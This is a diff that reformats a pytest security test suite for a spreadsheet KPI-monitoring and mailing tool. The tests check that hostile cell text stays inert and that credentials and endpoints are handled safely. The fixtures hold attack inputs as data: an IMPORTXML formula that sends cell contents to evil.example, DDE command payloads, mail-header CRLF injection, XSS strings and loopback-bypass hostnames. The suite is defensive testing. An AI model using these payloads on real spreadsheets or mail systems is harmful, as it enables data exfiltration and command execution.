@@ -42,8 +42,13 @@ WEEKS = [dt.datetime(2026, 11, 2), dt.datetime(2026, 11, 9), dt.datetime(2026, 1
 KPI_HEAD = ["KPI", "Owner", "Unit", "Warning", "Critical", *WEEKS]
 OKR_HEAD = ["Objective", "Key result", "Owner", "Start", "Target", "Current", "Kind"]
 IMPORTXML = '=IMPORTXML("http://evil.example/steal?d="&A1,"//a")'
-FORMULAS = [IMPORTXML, '=HYPERLINK("http://evil.example","click me")', "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+FORMULAS = [
+    IMPORTXML,
+    '=HYPERLINK("http://evil.example","click me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
 Grid = list[list[Any]]
 
 
@@ -75,18 +80,21 @@ def run(cfg: Path) -> int:
 def formula_tabs() -> dict[str, Grid]:
     """A KPI breached and one in ERROR (their names are mailed), the rest OK; a key result
     off track: every hostile text reaches the Status tab, the notes and the mails."""
-    kpis: Grid = [KPI_HEAD,
-                  [FORMULAS[0], "sam@example.com", "=1+2", 480, 450, 515, 500, 300],
-                  [FORMULAS[1], "=1+1", "", "=1+1", 450, 515, 500, 490],
-                  *([name, "", "", 480, 450, 515, 500, 490] for name in FORMULAS[2:])]
-    okrs: Grid = [OKR_HEAD, [FORMULAS[1], FORMULAS[0], "sam@example.com", 0, 100, 1,
-                             "committed"]]
+    kpis: Grid = [
+        KPI_HEAD,
+        [FORMULAS[0], "sam@example.com", "=1+2", 480, 450, 515, 500, 300],
+        [FORMULAS[1], "=1+1", "", "=1+1", 450, 515, 500, 490],
+        *([name, "", "", 480, 450, 515, 500, 490] for name in FORMULAS[2:]),
+    ]
+    okrs: Grid = [OKR_HEAD, [FORMULAS[1], FORMULAS[0], "sam@example.com", 0, 100, 1, "committed"]]
     return {"KPIs": kpis, "OKRs": okrs}
 
 
 def eml(folder: Path) -> list[EmailMessage]:
-    found = [email.message_from_bytes(p.read_bytes(), policy=email.policy.default)
-             for p in sorted(folder.glob("*.eml"))]
+    found = [
+        email.message_from_bytes(p.read_bytes(), policy=email.policy.default)
+        for p in sorted(folder.glob("*.eml"))
+    ]
     return [m for m in found if isinstance(m, EmailMessage)]
 
 
@@ -110,7 +118,8 @@ def flat(grid: Iterable[Iterable[object]]) -> list[object]:
 
 
 def test_formula_text_stays_text_in_the_workbook_the_status_tab_and_the_mail_on_xlsx(
-        tmp_path: Path) -> None:
+    tmp_path: Path,
+) -> None:
     path = save(tmp_path / "team.xlsx", formula_tabs())
     cfg = write_config(tmp_path, '[workbook]\npath = "team.xlsx"')
     assert run(cfg) == 1  # the "=1+1" threshold is an ERROR row
@@ -120,8 +129,12 @@ def test_formula_text_stays_text_in_the_workbook_the_status_tab_and_the_mail_on_
     book = openpyxl.load_workbook(path)
     assert [c.value for c in book["KPIs"]["A"][1:]] == FORMULAS
     assert all(c.data_type == "s" for c in book["KPIs"]["A"][1:])
-    status = {c.value: c.data_type for row in book["Status"].iter_rows() for c in row
-              if c.value is not None}
+    status = {
+        c.value: c.data_type
+        for row in book["Status"].iter_rows()
+        for c in row
+        if c.value is not None
+    }
     assert all(status.get(name) == "s" for name in FORMULAS), status
     notes = [c.value for c in book["KPIs"][1] if c.value == "Note"]
     assert notes
@@ -131,17 +144,24 @@ def test_formula_text_stays_text_in_the_workbook_the_status_tab_and_the_mail_on_
 
 
 def test_formula_text_stays_text_on_google_which_makes_formulas_of_user_entered_text(
-        tmp_path: Path, sheets_emulator: SheetsEmulator) -> None:
+    tmp_path: Path, sheets_emulator: SheetsEmulator
+) -> None:
     key = sheets_emulator.create(formula_tabs(), title=f"Team {IMPORTXML}")
-    cfg = write_config(tmp_path, f'[workbook]\nbackend = "google"\nspreadsheet = "{key}"\n'
-                           f'endpoint = "{sheets_emulator.url}"')
+    cfg = write_config(
+        tmp_path,
+        f'[workbook]\nbackend = "google"\nspreadsheet = "{key}"\n'
+        f'endpoint = "{sheets_emulator.url}"',
+    )
     assert run(cfg) == 1
     assert sheets_emulator.formulas(key) == []
     assert [row[0] for row in sheets_emulator.grid(key, "KPIs")[1:]] == FORMULAS
     status = flat(sheets_emulator.grid(key, "Status"))
     assert all(name in status for name in FORMULAS)
-    writes = [r for r in sheets_emulator.requests if r.api.startswith("values.") and "update"
-              in r.api.casefold()]
+    writes = [
+        r
+        for r in sheets_emulator.requests
+        if r.api.startswith("values.") and "update" in r.api.casefold()
+    ]
     assert writes
     assert {r.body["valueInputOption"] for r in writes} == {"RAW"}
     structural = [r for r in sheets_emulator.requests if r.api == "batchUpdate"]
@@ -159,21 +179,29 @@ INJECT = "\r\nX-Injected: yes\r\nReply-To: attacker"
 
 
 def test_sheet_text_is_escaped_in_html_and_line_breaks_cannot_add_mail_headers(
-        tmp_path: Path, smtp_server_factory: SmtpServerFactory) -> None:
+    tmp_path: Path, smtp_server_factory: SmtpServerFactory
+) -> None:
     server = smtp_server_factory(starttls=False)
     name = f"Q4 <b>metrics<b> & co{INJECT}"  # the workbook's title is the file's name
-    save(tmp_path / f"{name}.xlsx", {
-        "KPIs": [KPI_HEAD,
-                 [SCRIPT, f"sam@example.com{INJECT}", "<i>u</i>", 480, 450, 515, 500, 300],
-                 [f"Uptime{INJECT}", "ops@example.com", "", IMG, 450, 515, 500, 490]],
-        "OKRs": [OKR_HEAD, ["<h1>Grow</h1>", LINK, "sam@example.com", 0, 100, 1,
-                            "committed"]]})
-    cfg = write_config(tmp_path, f"[workbook]\npath = {json.dumps(name + '.xlsx')}",
-                 f'host = "{server.host}"\nport = {server.port}\nstarttls = false')
+    save(
+        tmp_path / f"{name}.xlsx",
+        {
+            "KPIs": [
+                KPI_HEAD,
+                [SCRIPT, f"sam@example.com{INJECT}", "<i>u</i>", 480, 450, 515, 500, 300],
+                [f"Uptime{INJECT}", "ops@example.com", "", IMG, 450, 515, 500, 490],
+            ],
+            "OKRs": [OKR_HEAD, ["<h1>Grow</h1>", LINK, "sam@example.com", 0, 100, 1, "committed"]],
+        },
+    )
+    cfg = write_config(
+        tmp_path,
+        f"[workbook]\npath = {json.dumps(name + '.xlsx')}",
+        f'host = "{server.host}"\nport = {server.port}\nstarttls = false',
+    )
     assert run(cfg) == 1
     received = server.handler.received
-    assert sorted(r for e in received for r in e.rcpt_tos) == ["ops@example.com",
-                                                               "sam@example.com"]
+    assert sorted(r for e in received for r in e.rcpt_tos) == ["ops@example.com", "sam@example.com"]
     for envelope in received:
         head = envelope.data.split(b"\r\n\r\n", 1)[0]
         message = envelope.message
@@ -187,8 +215,9 @@ def test_sheet_text_is_escaped_in_html_and_line_breaks_cannot_add_mail_headers(
         for raw in (SCRIPT, IMG, LINK, "<h1>", "<i>u</i>", "<b>metrics<b>"):
             assert raw not in body
     sam = next(e.message for e in received if e.rcpt_tos == ("sam@example.com",))
-    assert "&lt;script&gt;alert(&#34;kpi&#34;)&lt;/script&gt; &amp; &lt;b&gt;co&lt;/b&gt;" in \
-        html(sam)
+    assert "&lt;script&gt;alert(&#34;kpi&#34;)&lt;/script&gt; &amp; &lt;b&gt;co&lt;/b&gt;" in html(
+        sam
+    )
     assert SCRIPT in plain(sam)  # the text part shows it as typed
     ops = next(e.message for e in received if e.rcpt_tos == ("ops@example.com",))
     assert "&lt;img src=x onerror=alert(1)&gt;" in html(ops)
@@ -201,22 +230,30 @@ PING_PASSWORD = "P1ng-S3cret-4u"
 
 
 def test_a_password_inside_an_endpoint_or_a_ping_url_is_never_printed(
-        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    save(tmp_path / "team.xlsx", {"KPIs": [KPI_HEAD, ["Leads", "", "", 480, 450, 515, 500, 490]],
-                                  "OKRs": [OKR_HEAD]})
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    save(
+        tmp_path / "team.xlsx",
+        {"KPIs": [KPI_HEAD, ["Leads", "", "", 480, 450, 515, 500, 490]], "OKRs": [OKR_HEAD]},
+    )
     google = tmp_path / "google.toml"
-    google.write_text('[workbook]\nbackend = "google"\nspreadsheet = "1AbCdEfGhIjKlMnOpQrStUv"\n'
-                      f'endpoint = "http://proxy:{PROXY_PASSWORD}@sheets.example.com"\n')
+    google.write_text(
+        '[workbook]\nbackend = "google"\nspreadsheet = "1AbCdEfGhIjKlMnOpQrStUv"\n'
+        f'endpoint = "http://proxy:{PROXY_PASSWORD}@sheets.example.com"\n'
+    )
     outputs = []
     with ping_server() as ping:
         ping.status = 404  # the heartbeat's warning names the ping URL's host
         url = ping.url.replace("http://", f"http://hc:{PING_PASSWORD}@")
-        pinged = write_config(tmp_path, '[workbook]\npath = "team.xlsx"',
-                        f'\n[monitor]\nping_url = "{url}"')
-        for argv in (["run", "--once", "--config", str(pinged), "--as-of", AS_OF],
-                     ["run", "--once", "--config", str(google)],
-                     ["check", "--config", str(google)],
-                     ["run", "--once", "--log-format", "json", "--config", str(google)]):
+        pinged = write_config(
+            tmp_path, '[workbook]\npath = "team.xlsx"', f'\n[monitor]\nping_url = "{url}"'
+        )
+        for argv in (
+            ["run", "--once", "--config", str(pinged), "--as-of", AS_OF],
+            ["run", "--once", "--config", str(google)],
+            ["check", "--config", str(google)],
+            ["run", "--once", "--log-format", "json", "--config", str(google)],
+        ):
             code = main(argv)
             said = capsys.readouterr()
             outputs.append(f"{argv} -> {code}\n{said.out}{said.err}")
@@ -229,37 +266,63 @@ def test_a_password_inside_an_endpoint_or_a_ping_url_is_never_printed(
 
 
 def test_a_credentials_file_readable_by_every_user_is_warned_about_on_every_run(
-        tmp_path: Path, sheets_emulator: SheetsEmulator,
-        capsys: pytest.CaptureFixture[str]) -> None:
-    key = sheets_emulator.create({"KPIs": [KPI_HEAD, ["Leads", "", "", 480, 450, 515, 500, 490]],
-                                  "OKRs": [OKR_HEAD]})
+    tmp_path: Path, sheets_emulator: SheetsEmulator, capsys: pytest.CaptureFixture[str]
+) -> None:
+    key = sheets_emulator.create(
+        {"KPIs": [KPI_HEAD, ["Leads", "", "", 480, 450, 515, 500, 490]], "OKRs": [OKR_HEAD]}
+    )
     creds = tmp_path / "user.json"
-    creds.write_text(json.dumps({  # a stored, unexpired token: no token request needed
-        "type": "authorized_user", "client_id": "c", "client_secret": "s", "refresh_token": "r",
-        "token": "user-token", "expiry": "2999-01-01T00:00:00Z"}))
+    creds.write_text(
+        json.dumps(
+            {  # a stored, unexpired token: no token request needed
+                "type": "authorized_user",
+                "client_id": "c",
+                "client_secret": "s",
+                "refresh_token": "r",
+                "token": "user-token",
+                "expiry": "2999-01-01T00:00:00Z",
+            }
+        )
+    )
     creds.chmod(0o644)
-    cfg = write_config(tmp_path, f'[workbook]\nbackend = "google"\nspreadsheet = "{key}"\n'
-                           f'endpoint = "{sheets_emulator.url}"\ncredentials = "user.json"')
+    cfg = write_config(
+        tmp_path,
+        f'[workbook]\nbackend = "google"\nspreadsheet = "{key}"\n'
+        f'endpoint = "{sheets_emulator.url}"\ncredentials = "user.json"',
+    )
     assert run(cfg) == 0
     err = capsys.readouterr().err
     assert f"credentials file {creds} is readable by every user" in err
     assert f"chmod 600 {creds}" in err
-    found = check_credentials(WorkbookConfig(backend="google", spreadsheet=key, credentials=creds,
-                                             name="team"))
-    assert [(f.level, f.fix) for f in found] == [("warn", f"chmod 600 {creds} (or 640 with a "
-                                                          "group of its own)")]
+    found = check_credentials(
+        WorkbookConfig(backend="google", spreadsheet=key, credentials=creds, name="team")
+    )
+    assert [(f.level, f.fix) for f in found] == [
+        ("warn", f"chmod 600 {creds} (or 640 with a group of its own)")
+    ]
     creds.chmod(0o600)
     assert run(cfg) == 0
     assert "readable by every user" not in capsys.readouterr().err
 
 
-@pytest.mark.parametrize("endpoint", [
-    "http://sheets.example.com", "http://10.0.0.7:8080", "http://0.0.0.0:8080",
-    "http://localhost.evil.example", "http://127.0.0.1.nip.io"])
+@pytest.mark.parametrize(
+    "endpoint",
+    [
+        "http://sheets.example.com",
+        "http://10.0.0.7:8080",
+        "http://0.0.0.0:8080",
+        "http://localhost.evil.example",
+        "http://127.0.0.1.nip.io",
+    ],
+)
 def test_a_plain_http_endpoint_is_refused_unless_it_is_a_loopback_address(
-        endpoint: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    cfg = write_config(tmp_path, '[workbook]\nbackend = "google"\n'
-                       f'spreadsheet = "1AbCdEfGhIjKlMnOpQrS"\nendpoint = "{endpoint}"')
+    endpoint: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    cfg = write_config(
+        tmp_path,
+        '[workbook]\nbackend = "google"\n'
+        f'spreadsheet = "1AbCdEfGhIjKlMnOpQrS"\nendpoint = "{endpoint}"',
+    )
     assert run(cfg) == 2
     assert main(["check", "--config", str(cfg)]) == 2
     said = capsys.readouterr()
@@ -270,11 +333,14 @@ def test_a_plain_http_endpoint_is_refused_unless_it_is_a_loopback_address(
 
 
 def test_a_plain_http_endpoint_on_a_loopback_address_is_the_emulator_and_works(
-        tmp_path: Path, sheets_emulator: SheetsEmulator) -> None:
-    key = sheets_emulator.create({"KPIs": [KPI_HEAD, ["Leads", "", "", 480, 450, 515, 500, 490]],
-                                  "OKRs": [OKR_HEAD]})
+    tmp_path: Path, sheets_emulator: SheetsEmulator
+) -> None:
+    key = sheets_emulator.create(
+        {"KPIs": [KPI_HEAD, ["Leads", "", "", 480, 450, 515, 500, 490]], "OKRs": [OKR_HEAD]}
+    )
     url = sheets_emulator.url.replace("127.0.0.1", "localhost")
-    cfg = write_config(tmp_path, f'[workbook]\nbackend = "google"\nspreadsheet = "{key}"\n'
-                           f'endpoint = "{url}"')
+    cfg = write_config(
+        tmp_path, f'[workbook]\nbackend = "google"\nspreadsheet = "{key}"\nendpoint = "{url}"'
+    )
     assert run(cfg) == 0
     assert sheets_emulator.requests
